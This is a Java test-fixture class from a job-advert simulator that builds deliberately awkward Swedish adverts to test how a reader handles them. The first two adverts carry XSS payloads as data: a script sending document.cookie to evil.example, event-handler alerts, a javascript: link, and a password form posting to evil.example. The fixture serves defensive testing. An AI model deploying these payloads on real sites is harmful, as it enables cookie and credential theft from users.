package dev.jobtracker.simulator.invented;

import dev.jobtracker.simulator.wire.Json;
import dev.jobtracker.simulator.world.PresentRecord;
import dev.jobtracker.simulator.world.Reopened;
import dev.jobtracker.simulator.world.SwedishTime;
import java.time.Instant;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.Nullable;
import tools.jackson.databind.node.ObjectNode;

/**
 * Advertisements that a reader must survive: hostile HTML, no place, no employer, far away, very long, escaped twice.
 */
final class OddAdverts {

    private static final Entry SALES = new Entry("RPTn_bxG_ExZ", "Försäljning, inköp, marknadsföring", null);

    private final LocalDateTime now;
    private final List<ObjectNode> records = new ArrayList<>();
    private int number;

    OddAdverts(Instant now) {
        this.now = SwedishTime.local(now);
    }

    List<ObjectNode> records(int firstNumber) {
        number = firstNumber;
        add(
                "Webbredaktör <script>alert('rubrik')</script>",
                "Vi söker en webbredaktör som kan HTML.",
                "<p onclick=\"alert(1)\">Vi söker en <b>webbredaktör</b> som kan HTML.</p>"
                        + "<script>document.location='https://evil.example/?c='+document.cookie</script>"
                        + "<img src=x onerror=alert(2)><a href=\"javascript:alert(3)\">Ansök</a>"
                        + "<iframe src=\"https://evil.example\"></iframe><style>body{display:none}</style>");
        add(
                "Provtagare till blodbussen",
                "Bussen går till arbetsplatser i hela länet.",
                "<div style=\"position:fixed;inset:0;background:url(https://evil.example/t.gif)\">"
                        + "<form action=\"https://evil.example\"><input name=password></form>"
                        + "<svg onload=alert(4)><p>Bussen går till arbetsplatser i <em>hela</em> länet.");
        add(
                "Kafébiträde & bakare",
                "Kaffe &amp; kaka: vi söker dig som kan båda.",
                "&lt;p&gt;Kaffe &amp;amp; kaka: vi söker dig som kan &lt;strong&gt;båda&lt;/strong&gt;.&lt;/p&gt;");
        add("Projektassistent, plats ej bestämd", "Projektet rör sig längs hela kusten. Resor ingår.", null);
        add(
                "Fiskförädling på Lofoten",
                "Six weeks of cod season. Room and board, northern lights and very cold hands.",
                "<p>Six weeks of cod season. Room and board, northern lights and very cold hands.</p>");
        abroad(records.getLast());
        add("Traineeprogram för framtida butikschefer", "Ett traineeprogram på arton månader i fyra butiker.", null);
        records.getLast().set("occupation_field", SALES.json());
        add(
                "ARKIVARIE    MED    SINNE   FÖR   ORDNING !!!",
                "Vi flyttar arkivet. ".repeat(600),
                "<p>" + "Vi flyttar arkivet. ".repeat(600) + "</p>");
        add("Emoji-ansvarig 🐟 (50 %)", "Du svarar gäster i sociala medier\r\n\r\n👍🏽 varje dag\u00a0året om.", null);
        anonymous(records.getLast());
        add("Vaktmästare", "", "");
        return records;
    }

    private void add(String headline, String text, @Nullable String html) {
        ObjectNode ad = Json.object().put("id", Integer.toString(number++)).put("headline", headline);
        ad.putObject("description").put("text", text).put("text_formatted", html);
        ad.putObject("employer").put("name", "Udda Annonser AB").put("workplace", "Udda Annonser");
        ad.putObject("workplace_address")
                .put("country", "Sverige")
                .put("country_code", "199")
                .put("country_concept_id", "i46j_HmG_v64");
        ad.put("publication_date", SwedishTime.text(now.minusDays(2)));
        ad.put("last_publication_date", Reopened.endOfDay(now.plusDays(40)));
        ad.put("timestamp", SwedishTime.instant(now.minusDays(2)).toEpochMilli());
        records.add(PresentRecord.complete(ad));
    }

    private static void abroad(ObjectNode ad) {
        ad.withObject("/workplace_address")
                .put("country", "Norge")
                .put("country_code", "155")
                .put("country_concept_id", "QJgN_Zge_BzJ")
                .put("city", "SVOLVÆR");
    }

    private static void anonymous(ObjectNode ad) {
        ad.withObject("/employer").putNull("name").putNull("workplace");
    }
}
